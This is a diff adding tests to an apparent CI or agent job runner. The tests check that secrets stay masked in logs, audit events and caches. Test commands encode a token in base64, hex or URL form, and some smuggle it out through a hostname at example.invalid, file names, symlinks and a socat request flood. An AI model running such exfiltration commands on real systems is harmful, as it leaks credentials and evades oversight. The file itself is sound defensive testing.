@@ -162,3 +162,119 @@ test("a fork of a workspace whose .git the agent configured: the cache key's has
   expect(new Set(before)).toEqual(new Set(['ran in loop']));
   expect(stepText(lines, 'loop-1').split('\n').filter((l) => l === 'ran in loop').length).toBeGreaterThan(before.length);
 });
+
+/** A value printed beside the secret in the same forms, not a secret: the positive control of every leak probe below. */
+const DECOY = 'adv-Decoy/Value+5555555555';
+
+/**
+ * The test's own probe, apart from Draftsman's scanner: whether a text holds `value` as
+ * it is, split by line breaks, in base64 (wrapped or not), in hex (any separators) or
+ * URL-encoded or JSON-escaped.
+ */
+function probe(text: string, value: string): boolean {
+  const flat = text.replace(/\s+/g, '');
+  const hex = Buffer.from(value).toString('hex');
+  if (flat.includes(value.replace(/\s+/g, '')) || text.replace(/^[0-9a-f]{6,}:? /gm, '').replace(/[^0-9a-fA-F]/g, '').toLowerCase().includes(hex)) return true;
+  if (decodeURIComponent(text.replace(/%(?![0-9a-fA-F]{2})/g, '%25')).includes(value) || text.replace(/\\\//g, '/').includes(value)) return true;
+  for (const run of flat.match(/[A-Za-z0-9+/=]{16,}/g) ?? []) {
+    for (let skip = 0; skip < 4; skip++) if (Buffer.from(run.slice(skip), 'base64').toString('latin1').includes(value)) return true;
+  }
+  return false;
+}
+
+/** The same output of a value, in every form: the loop prints it for the secret and for the decoy. */
+const PRINT_EVERY_FORM = [
+  // Cut by the 64 KiB line cut: 65 530 characters, then the value, on one line.
+  "printf '%65530s' '' | tr ' ' x; printf '%s\\n' \"$V\"",
+  // base64 wraps at 76 columns.
+  'printf "a long enough prefix to wrap the value across lines %s" "$V" | base64',
+  // Hex with spaces, and with addresses.
+  'printf %s "$V" | od -An -tx1',
+  'printf %s "$V" | od -tx1',
+  // URL-encoded, every byte.
+  "printf %s \"$V\" | od -An -tx1 -v | tr -s ' \\n' ' ' | sed 's/ $//; s/ /%/g'; echo",
+  // JSON with its slashes escaped.
+  "printf '{\"token\":\"%s\"}\\n' \"$V\" | sed 's#/#\\\\/#g'",
+].join('\n');
+
+test('a secret printed in the forms an agent reaches for, and cut across lines, is in no stored log line; the same forms of a decoy are', async () => {
+  const id = await stack.submit({
+    repo: repo.url,
+    commit: repo.head,
+    secrets: { READ_TOKEN: 'adv-read' },
+    loop: { command: `V="$READ_TOKEN"\n${PRINT_EVERY_FORM}\nV="${DECOY}"\n${PRINT_EVERY_FORM}`, maxIterations: 1 },
+  });
+  expect((await stack.waitForEnd(id)).status).toBe('succeeded');
+  const text = stepText(await logsOf(id), 'loop-1');
+  // Positive control: each form of the decoy is found by the probe in what was stored.
+  expect(probe(text, DECOY)).toBe(true);
+  for (const form of PRINT_EVERY_FORM.split('\n')) {
+    const alone = await stack.submit({ repo: repo.url, commit: repo.head, loop: { command: `V="${DECOY}"\n${form}`, maxIterations: 1 } });
+    expect((await stack.waitForEnd(alone)).status).toBe('succeeded');
+    expect([form, probe(stepText(await logsOf(alone), 'loop-1'), DECOY)]).toEqual([form, true]);
+  }
+  expect(probe(text, READ)).toBe(false);
+});
+
+test('strings a step chooses reach the audit trail masked: a refused host, a withheld file name; refusals are capped per job', async () => {
+  const hexOf = (v: string) => Buffer.from(v).toString('hex');
+  const id = await stack.submit({
+    repo: repo.url,
+    commit: repo.head,
+    secrets: { READ_TOKEN: 'adv-read' },
+    loop: {
+      command: [
+        'HEX=$(printf %s "$READ_TOKEN" | od -An -tx1 | tr -d " \\n")',
+        // Exfiltration through the name of a refused host, and of files.
+        'git ls-remote "http://$HEX.example.invalid/r.git" >/dev/null 2>&1 || true',
+        `git ls-remote "http://${hexOf(DECOY)}.example.invalid/r.git" >/dev/null 2>&1 || true`,
+        'echo "$READ_TOKEN" > "leak-$HEX.txt"',
+        // A flood of refused hosts.
+        'i=0; while [ $i -lt 120 ]; do printf "GET http://flood-$i.example.invalid/ HTTP/1.1\\r\\nHost: flood-$i.example.invalid\\r\\n\\r\\n" | socat -T1 - TCP:127.0.0.1:3128 >/dev/null 2>&1 || true; i=$((i+1)); done',
+      ].join('\n'),
+      maxIterations: 1,
+    },
+  });
+  const job = await stack.waitForEnd(id);
+  expect(job.status).toBe('succeeded');
+  const events = await stack.store.events(id);
+  const denied = events.filter((e) => e.type === 'egress_denied').map((e) => String(e.data.host));
+  // Positive control: the decoy's host is recorded as it was asked for.
+  expect(denied).toContain(`${hexOf(DECOY)}.example.invalid`);
+  expect(denied).toContain('***.example.invalid');
+  const withheld = events.filter((e) => e.type === 'patch_file_withheld').map((e) => String(e.data.file));
+  expect(withheld).toEqual(['leak-***.txt']);
+  const trail = JSON.stringify([events, job]);
+  expect(probe(trail, READ)).toBe(false);
+  expect(trail).not.toContain(hexOf(READ));
+  // At most 100 refusals listed, then one event saying the rest were counted.
+  expect(denied.length).toBe(100);
+  expect(events.filter((e) => e.type === 'egress_denied_capped')).toHaveLength(1);
+  const { rows } = await stack.store.pool.query<{ denied: string }>('SELECT denied FROM job_egress WHERE job_id = $1', [id]);
+  expect(Number(rows[0]?.denied)).toBeGreaterThanOrEqual(122);
+});
+
+test("a cache whose file names or symlink targets carry a secret is not saved, named masked; a cache with the decoy's is", async () => {
+  const id = await stack.submit({
+    repo: repo.url,
+    commit: repo.head,
+    secrets: { READ_TOKEN: 'adv-read' },
+    caches: [
+      { name: 'advnames', key: 'advnames-1' },
+      { name: 'advlinks', key: 'advlinks-1' },
+      { name: 'advdecoy', key: 'advdecoy-1' },
+    ],
+    setup: [
+      'HEX=$(printf %s "$READ_TOKEN" | od -An -tx1 | tr -d " \\n"); touch "/cache/advnames/pkg-$HEX.json"',
+      'ln -s "/opt/$(printf %s "$READ_TOKEN" | base64 | tr "/+" "_-")" /cache/advlinks/current',
+      `touch "/cache/advdecoy/pkg-${Buffer.from(DECOY).toString('hex')}.json"; ln -s "/opt/${Buffer.from(DECOY).toString('base64url')}" /cache/advdecoy/current`,
+    ],
+  });
+  expect((await stack.waitForEnd(id)).status).toBe('succeeded');
+  const events = await stack.store.events(id);
+  const refused = Object.fromEntries(events.filter((e) => e.type === 'cache_refused').map((e) => [e.data.name, e.data.files]));
+  expect(refused).toEqual({ advnames: ['pkg-***.json'], advlinks: ['current'] });
+  // Positive control: the same names and targets of a value that is no secret are saved.
+  expect(events.filter((e) => e.type === 'cache_saved').map((e) => e.data.name)).toEqual(['advdecoy']);
+  expect(probe(JSON.stringify(events), READ)).toBe(false);
+});
